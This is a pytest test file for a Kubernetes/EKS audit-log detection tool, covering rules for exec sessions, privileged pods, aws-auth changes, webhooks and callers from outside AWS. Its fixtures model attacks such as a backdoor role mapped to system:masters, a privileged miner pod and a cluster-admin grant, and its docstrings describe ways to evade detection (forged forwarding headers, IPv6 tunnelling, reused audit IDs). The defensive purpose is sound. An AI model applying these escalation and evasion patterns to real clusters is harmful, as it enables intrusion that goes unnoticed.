        code=201,
        user="system:serviceaccount:kube-system:deployment-controller",
        body=workload("ReplicaSet", ns="shop", privileged=True),
    )
    assert run(ruleset, "privileged-container", [status, replicaset]).is_empty()


def test_exec_counts_one_session_once_across_stages(ruleset):
    started = ev(
        "create",
        "pods",
        ns="default",
        name="p",
        sub="exec",
        code=101,
        stage="ResponseStarted",
        audit_id="exec-1",
    )
    completed = dict(started, stage="ResponseComplete")
    found = run(ruleset, "pod-exec", [started, completed])
    assert found["event_count"].to_list() == [1]
    # a log holding only the ResponseComplete (stages filtered, a cut stream) still fires
    assert run(ruleset, "pod-exec", [completed])["event_count"].to_list() == [1]
    # a session opened in an earlier range (counted there at ResponseStarted) that closes in
    # this one is not counted again when this log records ResponseStarted
    later = T0 + timedelta(hours=2)
    closed_late = dict(completed, stageTimestamp=later.strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
    other = ev(
        "create",
        "pods",
        ns="default",
        name="q",
        sub="exec",
        code=101,
        stage="ResponseStarted",
        at=later,
    )
    found = run(ruleset, "pod-exec", [closed_late, other])
    assert found["event_count"].to_list() == [1]
    assert found["audit_ids"].to_list()[0] == [other["auditID"]]


@pytest.mark.parametrize("verb", ["create", "get"])
@pytest.mark.parametrize("sub", ["exec", "attach", "portforward"])
def test_sessions_fire_at_any_stage_and_verb(ruleset, verb, sub):
    rule = "pod-port-forward" if sub == "portforward" else "pod-exec"
    for stage in ("RequestReceived", "ResponseStarted", "ResponseComplete"):
        event = ev(verb, "pods", ns="default", name="p", sub=sub, code=101, stage=stage)
        assert run(ruleset, rule, [event])["event_count"].to_list() == [1], (stage, verb)


def test_websocket_exec_uses_verb_get(ruleset):
    found = run(
        ruleset,
        "pod-exec",
        [ev("get", "pods", ns="default", name="p", sub="exec", code=101, stage="ResponseStarted")],
    )
    assert found.height == 1


def test_reason_names_the_person_behind_an_iam_role(ruleset):
    found = run(
        ruleset,
        "aws-auth-changed",
        [
            ev(
                "patch",
                "configmaps",
                ns="kube-system",
                name="aws-auth",
                user=iam(),
                at=T0 + timedelta(seconds=s),
                body={"data": {}},
            )
            for s in (0, 30)
        ],
    )
    assert found["reasons"].to_list() == [
        ["eng-admin (session alice) patched ConfigMap kube-system/aws-auth (2 events)"]
    ]
    assert found["principal"][0] == "arn:aws:iam::111122223333:role/eng-admin/alice"
    assert found["principal_kind"][0] == "iam_role"


def test_reason_names_session_and_role_when_the_username_is_the_session_arn(ruleset):
    """EKS may map a role to the session ARN as username; the session and role come from
    the IAM identity in ``user.extra``. The same username without it is anyone's claim (an
    OIDC token, a certificate): named as stored and marked, not as ivan (found by review:
    it read as ivan's session, joined his incidents and linked to his CloudTrail)."""
    sts = "arn:aws:sts::111122223333:assumed-role/developer/ivan"
    iam = {
        "arn": [sts],
        "canonicalArn": ["arn:aws:iam::111122223333:role/developer"],
        "sessionName": ["ivan"],
    }
    found = {}
    for case, user in {
        "verified": {"username": sts, "groups": [], "extra": iam},
        "claimed": {"username": sts, "groups": []},
    }.items():
        event = ev(
            "create", "pods", ns="shop", name="db-0", sub="portforward", code=101,
            stage="ResponseStarted", user=user,
        )  # fmt: skip
        found[case] = run(ruleset, "pod-port-forward", [event])
    assert found["verified"]["reasons"].to_list() == [
        ["developer (session ivan) port-forwarded to pod shop/db-0"]
    ]
    assert found["verified"]["principal"][0] == "arn:aws:iam::111122223333:role/developer/ivan"
    assert found["claimed"]["reasons"].to_list() == [
        [f"unverified:{sts} port-forwarded to pod shop/db-0"]
    ]
    assert found["claimed"]["principal"][0] == f"unverified:{sts}"
    assert found["claimed"]["principal_kind"][0] == "other"


def test_reasons_name_the_evidence(ruleset):
    """An analyst reads what happened in the terms of the activity, not just "patched"."""
    aws_auth = ev(
        "patch",
        "configmaps",
        ns="kube-system",
        name="aws-auth",
        user=iam(),
        body={
            "data": {
                "mapRoles": "- rolearn: arn:aws:iam::111122223333:role/backdoor\n"
                "  username: backdoor\n  groups:\n    - system:masters\n"
            }
        },
    )
    (reasons,) = run(ruleset, "aws-auth-changed", [aws_auth])["reasons"].to_list()
    assert reasons[0].endswith("mappings arn:aws:iam::111122223333:role/backdoor -> system:masters")
    hook = ev(
        "create",
        "mutatingwebhookconfigurations",
        name="h",
        group=ADMREG,
        code=201,
        body={
            "kind": "MutatingWebhookConfiguration",
            "webhooks": [
                {"name": "a", "clientConfig": {"url": "https://203.0.113.9/mutate"}},
                {"name": "b", "clientConfig": {"service": {"namespace": "x", "name": "y"}}},
            ],
        },
    )
    (reasons,) = run(ruleset, "admission-webhook-changed", [hook])["reasons"].to_list()
    assert "sends objects to service x/y, URL https://203.0.113.9/mutate" in reasons[0]
    priv = ev(
        "create",
        "pods",
        ns="shop",
        code=201,
        body=pod("shop", image="evil/miner:1", privileged=True, host_path="/etc"),
    )
    (reasons,) = run(ruleset, "privileged-container", [priv])["reasons"].to_list()
    assert "images evil/miner:1; host paths /etc; added capabilities none" in reasons[0]


def test_outside_aws_needs_a_public_address_and_a_system_identity(ruleset):
    rule = "system-identity-outside-aws"
    private = ev("get", "pods", ns="shop", user=NODE, ip="10.0.1.7")
    person = ev("get", "pods", ns="shop", user=iam(), ip=TOR_IP)
    eks = ev("get", "pods", ns="shop", user="eks:node-manager", ip=TOR_IP)
    sa = ev("get", "pods", ns="shop", user="system:serviceaccount:kube-system:coredns", ip=TOR_IP)
    assert run(ruleset, rule, [private, person]).is_empty()
    found = run(ruleset, rule, [eks, sa])
    assert sorted(found["principal"]) == [
        "eks:node-manager",
        "system:serviceaccount:kube-system:coredns",
    ]
    assert f"from {TOR_IP}, public and outside AWS" in found["reasons"][0][0]
    # The same kube-system account is not also reported as a workload's.
    assert run(ruleset, "service-account-outside-aws", [eks, sa]).is_empty()
    app = ev("get", "pods", ns="shop", user=SA, ip=TOR_IP)
    assert run(ruleset, rule, [app]).is_empty()
    assert run(ruleset, "service-account-outside-aws", [app]).height == 1


def test_a_forwarded_for_header_cannot_hide_where_a_request_came_from(ruleset):
    """``sourceIPs`` lists the client's X-Forwarded-For claim first and the address the
    API server's connection came from last. A stolen token used from a Tor exit behind
    ``X-Forwarded-For: 10.0.5.5`` (or an AWS address) was judged by the claim alone and
    passed (found by review): every address is judged, so a header adds, never hides."""

    def via(claimed: str, real: str, user: str) -> dict:
        event = ev("get", "secrets", ns="shop", user=user)
        event["sourceIPs"] = [claimed, real]
        return event

    for claimed in ("10.0.5.5", AWS_IP):
        found = run(ruleset, "service-account-outside-aws", [via(claimed, TOR_IP, SA)])
        assert found.height == 1, claimed
        assert f"from {TOR_IP}, public and outside AWS" in found["reasons"][0][0]  # the one judged
        assert run(ruleset, "system-identity-outside-aws", [via(claimed, TOR_IP, NODE)]).height
    # A public address the client only wrote in a header is judged, and said to be a claim.
    found = run(ruleset, "service-account-outside-aws", [via(TOR_IP, "10.0.5.5", SA)])
    assert (
        f"from {TOR_IP} (claimed by the client in a forwarding header), public and outside AWS"
        in found["reasons"][0][0]
    )
    # A pod's call through a proxy in the VPC, or from a NAT gateway's address, stays quiet.
    quiet = [via("10.0.5.5", "10.0.9.9", SA), via("10.0.5.5", AWS_IP, SA)]
    assert run(ruleset, "service-account-outside-aws", quiet).is_empty()
    assert run(ruleset, "denied-ip-caller", [via("10.0.5.5", TOR_IP, iam())]).height == 1


def test_ipv6_callers_are_judged_as_ipv4_ones_are(ruleset):
    """An EKS cluster in IPv6 mode gives its pods AWS's global IPv6 addresses, and a stolen
    token can be used from anywhere over IPv6: those addresses were not judged at all, so
    no outside-AWS or deny-list rule could fire on them (found by review)."""
    outside, in_aws, private = "2a01:4f8::1", "2600:1f18::1", "fd12:3456::1"
    found = run(ruleset, "service-account-outside-aws", [ev("get", "pods", user=SA, ip=outside)])
    assert f"from {outside}, public and outside AWS" in found["reasons"][0][0]
    quiet = [ev("get", "pods", user=SA, ip=ip) for ip in (in_aws, private, "fe80::1%eth0")]
    assert run(ruleset, "service-account-outside-aws", quiet).is_empty()
    # IPv4-mapped: the IPv4 address it carries (in AWS here; on the deny list there)
    mapped = ev("get", "pods", user=SA, ip=f"::ffff:{AWS_IP}")
    assert run(ruleset, "service-account-outside-aws", [mapped]).is_empty()
    for ip in (f"::ffff:{TOR_IP}", "2001:db8::5"):  # the fixture lists 2001:db8::/32 too
        assert run(ruleset, "denied-ip-caller", [ev("get", "pods", user=iam(), ip=ip)]).height, ip

    # 6to4, Teredo (the client's address, inverted) and NAT64 carry an IPv4 address too:
    # judged as reserved IPv6 they passed every rule, tunnelled from a Tor exit (review)
    def six_to_four(v4: str) -> str:
        n = int(ipaddress.IPv4Address(v4))
        return f"2002:{n >> 16:x}:{n & 0xFFFF:x}::1"

    n = int(ipaddress.IPv4Address(TOR_IP)) ^ 0xFFFFFFFF
    teredo = f"2001:0:4136:e378:8000:63bf:{n >> 16:x}:{n & 0xFFFF:x}"
    assert ipaddress.IPv6Address(teredo).teredo[1] == ipaddress.IPv4Address(TOR_IP)
    for ip in (six_to_four(TOR_IP), teredo, f"64:ff9b::{TOR_IP}"):
        sa = run(ruleset, "service-account-outside-aws", [ev("get", "pods", user=SA, ip=ip)])
        assert sa.height == 1, ip
        assert run(ruleset, "denied-ip-caller", [ev("get", "pods", user=iam(), ip=ip)]).height, ip
    for ip in (six_to_four(AWS_IP), six_to_four("10.0.5.5"), "64:ff9b::10.0.5.5"):
        quiet = [ev("get", "pods", user=SA, ip=ip)]
        assert run(ruleset, "service-account-outside-aws", quiet).is_empty(), ip
    # a list's IPv4-mapped entry matches the IPv4 address and its mapped form (review)
    from detector.rules import iplists

    ranges = iplists.intervals(iplists.parse_networks(["::ffff:198.51.100.0/120"], "t"))
    assert (ranges.starts.to_list(), ranges.v6_starts) == ([0xC6336400], ())
    reserved = ev("get", "pods", user=SA, ip="::2")  # the reserved ::/8 is not public
    assert run(ruleset, "service-account-outside-aws", [reserved]).is_empty()
    node = ev("get", "pods", user=NODE, ip=outside)
    assert run(ruleset, "system-identity-outside-aws", [node]).height == 1


def test_ip_lists_reject_bad_lines_and_need_no_network(tmp_path):
    from detector.rules.condition import ConditionError
    from detector.rules.iplists import derive_aws_ranges, read_networks

    bad = tmp_path / "bad.txt"
    bad.write_text("10.0.0.0/8\nnot-an-ip\n")
    with pytest.raises(ConditionError, match=r"bad.txt, line 2: not an address or CIDR"):
        read_networks(bad)
    source = tmp_path / "ip-ranges.json"
    source.write_text(
        '{"syncToken": "1", "createDate": "2026-01-02-03-04-05", "prefixes": ['
        '{"ip_prefix": "3.5.140.0/23"}, {"ip_prefix": "3.5.142.0/23"}, {"ip_prefix": "52.0.0.0/15"}'
        '], "ipv6_prefixes": [{"ipv6_prefix": "2600:1f00::/41"},'
        ' {"ipv6_prefix": "2600:1f00:80::/41"}]}'
    )
    text = derive_aws_ranges(source)
    assert "createDate 2026-01-02-03-04-05" in text
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)  # past Python's stack: RecursionError
    with pytest.raises(ConditionError, match=r"not AWS's ip-ranges\.json"):
        derive_aws_ranges(deep)
    assert text.splitlines()[2:] == ["3.5.140.0/22", "52.0.0.0/15", "2600:1f00::/40"]


def test_a_list_file_that_is_not_a_list_is_the_settings_fault_and_never_quoted(
    tmp_path, monkeypatch
):
    # A setting pointing at the wrong file (a credentials file, /etc/shadow): the error
    # goes to logs, so it names the setting and the line, and quotes no line that could
    # not be an address. A typo in an address is still shown, to be fixed.
    from detector.config import ConfigError

    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    wrong = tmp_path / "credentials"
    wrong.write_text(f"[default]\naws_secret_access_key = {secret}\n")
    monkeypatch.setenv(IP_LISTS_ENV, str(wrong))
    with pytest.raises(ConfigError) as caught:
        load_ruleset()
    message = str(caught.value)
    assert message.startswith(f"ip_lists in detect.toml ({IP_LISTS_ENV}): {wrong}, line 1:")
    assert secret not in message and "default" not in message and "rule" not in message
    hexkey = "0123456789abcdef0123456789abcdef"  # an API key of hex digits, address-like
    wrong.write_text(f"{hexkey}\n")
    with pytest.raises(ConfigError) as caught:
        load_ruleset()
    assert hexkey not in str(caught.value)
    typo = tmp_path / "deny.txt"
    typo.write_text("10.0.0.0/33\n")
    monkeypatch.setenv(IP_LISTS_ENV, str(typo))
    with pytest.raises(ConfigError, match=r"line 1: not an address or CIDR: '10.0.0.0/33'"):
        load_ruleset()


def test_a_get_only_grant_of_pods_exec_is_still_exec(ruleset):
    grant = ev(
        "create",
        "roles",
        ns="shop",
        name="r",
        group=RBAC,
        code=201,
        body=role("Role", ["pods", "pods/exec"], ["get"]),
    )
    (reasons,) = run(ruleset, "clusterrole-pod-exec", [grant])["reasons"].to_list()
    assert reasons[0].endswith("rule resources pods, pods/exec; verbs get")


def test_a_dry_run_is_a_record_that_says_so_not_an_alert(ruleset):
    """`kubectl create clusterrolebinding ... --dry-run=server` changes nothing, and Argo CD's
    server-side diff dry-runs every manifest it syncs: reported at the rule's severity (a
    high cluster-admin binding), each was an alert for a change that never happened (found
    by review). A finding made only of dry runs is recorded at info, never alerted, its
    first reason saying why; one dry run beside a real request changes nothing."""
    from detector.rules.engine import DRY_RUN_REASON

    def create(uri_tail: str, name: str = "b") -> dict:
        return ev(
            "create",
            "clusterrolebindings",
            name=name,
            group=RBAC,
            code=201,
            uri=f"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings{uri_tail}",
            body=binding("ClusterRoleBinding", "cluster-admin", ("User", "mallory")),
        )

    rule = "cluster-admin-binding"
    for tail in ("?dryRun=All", "?fieldManager=kubectl-create&dryRun=All"):
        (found,) = run(ruleset, rule, [create(tail)]).to_dicts()
        assert (found["severity"], found["severity_rank"]) == ("info", 0), tail
        assert found["reasons"][0] == DRY_RUN_REASON
    # what the server would carry out is judged as a change: a real one beside the dry run,
    # or a parameter the server does not read as a dry run
    both = run(ruleset, rule, [create("?dryRun=All"), create("", name="c")])
    assert both["severity"].to_list() == ["high"]
    for tail in ("?dryRun=", "?DryRun=All", "?xdryRun=All", "?dryRun=Allx"):
        (found,) = run(ruleset, rule, [create(tail)]).to_dicts()
        assert found["severity"] == "high" and DRY_RUN_REASON not in found["reasons"], tail
    # reads ignore dryRun, and a TokenRequest mints its token whatever it says: they stay
    # what they are with ?dryRun=All added (found by review)
    listed = ev("list", "secrets", uri="/api/v1/secrets?limit=500&dryRun=All")
    (found,) = run(ruleset, "secrets-listed-cluster-wide", [listed]).to_dicts()
    assert found["severity"] != "info"
    token = ev(
        "create", "serviceaccounts", ns="kube-system", name="admin", sub="token", code=201,
        uri="/api/v1/namespaces/kube-system/serviceaccounts/admin/token?dryRun=All",
    )  # fmt: skip
    (found,) = run(ruleset, "kube-system-token-requested", [token]).to_dicts()
    assert found["severity"] == "high"


def test_requests_sent_under_one_reused_audit_id_each_count(ruleset):
    """The API server takes the audit ID from the client's Audit-ID header: 25 denied
    requests sent under one ID counted as one request, under every threshold (found by
    review). A request is its ID and the time it was received, which its stages share."""
    denied = [
        ev("get", "secrets", ns="app", code=403, audit_id="reused", at=T0 + timedelta(seconds=i))
        for i in range(25)
    ]
    assert run(ruleset, "auth-failure-spike-principal", denied).height == 1
    # One request logged at two stages is still one (the stages share the received time).
    stages = [
        ev("get", "secrets", ns="app", code=403, audit_id=f"r{i}", stage=stage, at=T0)
        for i in range(15)
        for stage in ("ResponseStarted", "ResponseComplete")
    ]
    assert run(ruleset, "auth-failure-spike-principal", stages).is_empty()  # 15 < 20
